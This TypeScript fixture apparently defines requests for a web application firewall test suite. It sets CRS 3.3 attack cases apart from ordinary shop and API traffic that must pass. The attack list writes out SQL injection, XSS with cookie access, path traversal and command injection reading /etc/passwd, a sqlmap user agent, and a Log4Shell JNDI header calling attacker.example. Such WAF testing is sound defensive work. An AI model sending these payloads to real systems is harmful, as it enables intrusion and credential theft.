/**
 * The WAF suites' requests, in the spirit of the CRS's own regression tests (one request, the answer it
 * must get): attacks CRS 3.3 at paranoia level 1 blocks, and ordinary traffic it must not. Written once,
 * sent to every front and to a route with and one without a WAF (waf.test.ts).
 */

export interface CaseRequest {
  readonly name: string;
  readonly method: string;
  /** Path and query as sent (percent-encoded where a client would). */
  readonly target: string;
  readonly headers?: Record<string, string>;
  readonly body?: string;
  /** The CRS rule (or the gateway's own) expected among the matches, for the docs' table. */
  readonly rule: string;
}

const form = { "content-type": "application/x-www-form-urlencoded" };
const json = { "content-type": "application/json" };

export const ATTACKS: readonly CaseRequest[] = [
  {
    name: "SQLi in the query",
    method: "GET",
    target: "/items?id=1%27%20OR%20%271%27%3D%271",
    rule: "942100",
  },
  {
    name: "SQLi in a form body",
    method: "POST",
    target: "/login",
    headers: form,
    body: "user=admin%27%20OR%201%3D1--&pass=x",
    rule: "942100",
  },
  {
    name: "SQLi in a JSON body",
    method: "POST",
    target: "/api/search",
    headers: json,
    body: JSON.stringify({ q: "1' UNION SELECT username, password FROM users--" }),
    rule: "942100",
  },
  {
    name: "XSS in the query",
    method: "GET",
    target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    rule: "941100",
  },
  {
    name: "XSS in a form body",
    method: "POST",
    target: "/comment",
    headers: form,
    body: "text=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
    rule: "941100",
  },
  {
    name: "scanner user agent",
    method: "GET",
    target: "/",
    headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" },
    rule: "913100",
  },
  {
    name: "path traversal in the query",
    method: "GET",
    target: "/download?file=../../../../etc/passwd",
    rule: "930100",
  },
  // `..%2f` in the path itself never gets this far: both fronts refuse it (400) before routing.
  {
    name: "encoded path traversal in the query",
    method: "GET",
    target: "/static?f=..%252f..%252f..%252fetc%252fpasswd",
    rule: "930100",
  },
  {
    name: "Log4Shell-style header",
    method: "GET",
    target: "/",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this literal text
    headers: { "x-api-version": "${jndi:ldap://attacker.example/a}" },
    rule: "200010",
  },
  {
    name: "command injection in the query",
    method: "GET",
    target: "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
    rule: "932100",
  },
];

const browser = {
  "user-agent":
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  accept: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
  "accept-language": "en-GB,en;q=0.9,de;q=0.8",
  "accept-encoding": "gzip, deflate, br",
  referer: "https://shop.example/catalogue?page=2",
  cookie: "session=9f2c1e7a4b; theme=dark; consent=analytics%3Dno",
  "sec-fetch-site": "same-origin",
  "sec-fetch-mode": "navigate",
  "sec-fetch-dest": "document",
  "upgrade-insecure-requests": "1",
};

const api = {
  ...json,
  accept: "application/json",
  authorization: "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
};

export const ORDINARY: readonly CaseRequest[] = [
  {
    name: "browser page",
    method: "GET",
    target: "/catalogue/shoes?page=2&sort=-price",
    headers: browser,
    rule: "",
  },
  {
    name: "search with words SQL also uses",
    method: "GET",
    target: "/search?q=select%20a%20table%20or%20chair&from=home",
    headers: browser,
    rule: "",
  },
  {
    name: "JSON API read",
    method: "GET",
    target: "/api/v1/orders/1234?include=items,customer",
    headers: api,
    rule: "",
  },
  {
    name: "JSON API create",
    method: "POST",
    target: "/api/v1/orders",
    headers: api,
    body: JSON.stringify({
      customer: "O'Brien",
      email: "ann.obrien@example.com",
      items: [{ sku: "A-1", qty: 2 }],
      note: "Leave it at the door, please!",
    }),
    rule: "",
  },
  {
    name: "JSON API update",
    method: "PUT",
    target: "/api/v1/orders/1234",
    headers: api,
    body: JSON.stringify({ status: "shipped", tracking: "1Z999AA10123456784" }),
    rule: "",
  },
  {
    name: "JSON API patch",
    method: "PATCH",
    target: "/api/v1/orders/1234",
    headers: api,
    body: '{"note":"ring twice"}',
    rule: "",
  },
  { name: "JSON API delete", method: "DELETE", target: "/api/v1/orders/1234", headers: api, rule: "" },
  {
    name: "login form",
    method: "POST",
    target: "/login",
    headers: { ...browser, ...form },
    body: "username=alice%40example.com&password=s3cr3t%21%23&remember=on",
    rule: "",
  },
  {
    name: "contact form with punctuation",
    method: "POST",
    target: "/contact",
    headers: { ...browser, ...form },
    body: "name=Zo%C3%AB+M%C3%BCller&message=Hi%2C+I%27d+like+to+return+order+%231234+-+it%27s+too+small.",
    rule: "",
  },
  {
    name: "CORS preflight-like OPTIONS",
    method: "OPTIONS",
    target: "/api/v1/orders",
    headers: { origin: "https://shop.example" },
    rule: "",
  },
];
